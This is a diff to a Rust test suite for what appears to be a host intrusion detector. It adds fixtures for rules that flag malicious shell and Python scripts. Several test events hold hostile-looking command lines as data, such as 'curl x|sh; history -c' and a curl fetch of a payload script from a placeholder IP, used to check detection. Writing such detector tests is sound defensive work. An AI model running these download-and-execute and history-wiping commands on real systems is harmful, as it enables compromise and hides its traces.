@@ -72,6 +72,23 @@ fn malicious(mut e: ExecEvent) -> ExecEvent {
     e
 }
 
+fn with_script(mut e: ExecEvent, language: &'static str, malicious: bool) -> ExecEvent {
+    e.script = Some(crate::event::ScriptEvidence {
+        script: super::finding::Script {
+            path: None,
+            contents: e.args.last().cloned().unwrap_or_default(),
+            sha256: "0".repeat(64),
+            contents_truncated: false,
+        },
+        language,
+        score: if malicious { 2.4 } else { 0.1 },
+        malicious,
+        reasons: if malicious { vec!["download_execute".into(), "history_wipe".into()] } else { vec![] },
+        signatures: vec![],
+    });
+    e
+}
+
 fn socket() -> Stdio {
     Stdio::Socket { inode: 9, peer: Some(REMOTE.into()) }
 }
@@ -147,6 +164,8 @@ fn positives() -> Vec<(&'static str, ExecEvent)> {
         ("modified_malicious_binary", malicious(verdict(ev("/usr/bin/ls", &["ls"]), Verdict::Modified))),
         ("builtin_malicious_binary", malicious(verdict(ev("/usr/bin/xmrig", &["xmrig"]), Verdict::Builtin))),
         ("builtin_malicious_binary", malicious(ev("/usr/local/bin/kx", &["kx"]))),
+        ("malicious_script_executed", with_script(ev("/bin/sh", &["sh", "-c", "curl x|sh; history -c"]), "shell", true)),
+        ("malicious_python_executed", with_script(ev("/usr/bin/python3", &["python3", "-c", "exec(...)"]), "python", true)),
         ("malicious_url_observed", {
             let mut e = ev("/usr/bin/curl", &["curl", "http://203.0.113.66/payload.sh"]);
             e.indicators = vec!["http://203.0.113.66/payload.sh".into()];
@@ -235,6 +254,19 @@ fn negatives() -> Vec<(&'static str, ExecEvent)> {
         ("modified_malicious_binary", malicious(verdict(ev("/tmp/kx", &["kx"]), Verdict::Added))),
         ("builtin_malicious_binary", verdict(ev("/usr/bin/ls", &["ls"]), Verdict::Builtin)),
         ("malicious_url_observed", ev("/usr/bin/curl", &["curl", "https://example.com/"])),
+        (
+            "malicious_script_executed",
+            with_script(ev("/bin/sh", &["sh", "-c", "exec gunicorn app"]), "shell", false),
+        ),
+        (
+            "malicious_script_executed",
+            with_script(ev("/usr/bin/python3", &["python3", "-c", "x"]), "python", true),
+        ),
+        (
+            "malicious_python_executed",
+            with_script(ev("/usr/bin/python3", &["python3", "app.py"]), "python", false),
+        ),
+        ("malicious_python_executed", with_script(ev("/bin/sh", &["sh", "-c", "x"]), "shell", true)),
     ]
 }
 
